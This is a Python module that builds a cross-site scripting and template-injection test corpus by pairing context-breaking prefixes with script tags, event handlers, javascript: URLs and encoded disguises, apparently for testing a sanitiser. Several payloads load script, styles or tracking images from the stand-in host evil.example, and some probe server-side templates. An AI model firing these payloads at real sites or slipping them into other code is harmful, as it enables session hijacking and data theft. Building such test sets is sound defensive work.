"""Strings that would run script if a page let them: made from ways out of a place, things that run, and disguises.

``read`` takes lists of other people: one string a line, or JSON.
"""

from __future__ import annotations

import itertools
import json
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

__all__ = ["fitting", "made", "read"]

RUN = "alert(1)"
# Ways out of where a value may stand: an element, an attribute, a script, a style, a comment, a title, JSON.
OUT = [
    "", ">", '">', "'>", "`>", "/>", '" ', "' ", "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>",
    "</style>", "</noscript>", "</svg>", "</template>", "</select>", "</a>", "&quot;>", "&#34;>", "\\u003e",
    "%22%3e", "\\x3e", "\u2028", '"}]}</script>', "*/", "';", '";', "`;", "\\';", "%}", "}}",
]  # fmt: skip
THINGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    '<script src="//evil.example/x.js"></script>',
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\t=\t{RUN} //",
    f"<img/src='x'/onerror='{RUN}'>",
    '<img src="//evil.example/seen.png">',
    '<img srcset="//evil.example/seen.png 1x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a>',
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    '<iframe src="//evil.example/"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<xss id=x tabindex=1 onfocus={RUN} style=animation-name:a>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<link rel=prefetch href="//evil.example/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<style>@import "//evil.example/x.css";</style>',
    '<div style="background:url(//evil.example/seen.png)">',
    f'<template><img src=x onerror={RUN}></template>',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"x onmouseover={RUN} y",
    f'x" autofocus onfocus="{RUN}" y="',
    f"x' autofocus onfocus='{RUN}' y='",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"[x](javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x](x\"onerror=\"{RUN})",
    "![x](//evil.example/seen.png)",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    '{: onclick="alert(1)" }',
    f"{{{{ {RUN} }}}}",
    "{{ config }} {{ ''.__class__.__mro__ }}",
    "{% raw %}{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ 数('units.enterprises') }}<script>alert(1)</script>",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "zbmark626f6479zbmark",
    "zbmarkffzbmark <b>",
]  # fmt: skip


def _disguised(text: str) -> Iterator[str]:
    yield text
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield urllib.parse.quote(text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "&#x3c;").replace("alert", "al\\u0065rt")
    yield text.replace(" ", "/").replace("=", " = ")
    yield text.upper().replace("ALERT", "&#97;lert")


def made() -> list[str]:
    """Every thing after every way out, and every thing in every disguise."""
    plain = (f"{out}{thing}" for out, thing in itertools.product(OUT, THINGS))
    return list(dict.fromkeys(itertools.chain(plain, (text for thing in THINGS for text in _disguised(thing)))))


def read(path: Path) -> list[str]:
    """Strings of a list: a line each, or those within JSON."""
    text = path.read_text("utf-8", "replace")
    if path.suffix == ".json":
        return list(dict.fromkeys(_within(json.loads(text))))
    return list(dict.fromkeys(line for line in text.splitlines() if line.strip()))


def _within(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | dict):
        for item in value.values() if isinstance(value, dict) else value:
            yield from _within(item)


def fitting(vectors: list[str]) -> list[str]:
    """Those that one line of a record can hold: the reader refuses control characters, the checks e-mail addresses."""
    return [
        text for text in vectors
        if 0 < len(text.strip()) <= 290 and text.isprintable() and "@" not in text and "＠" not in text
    ]  # fmt: skip
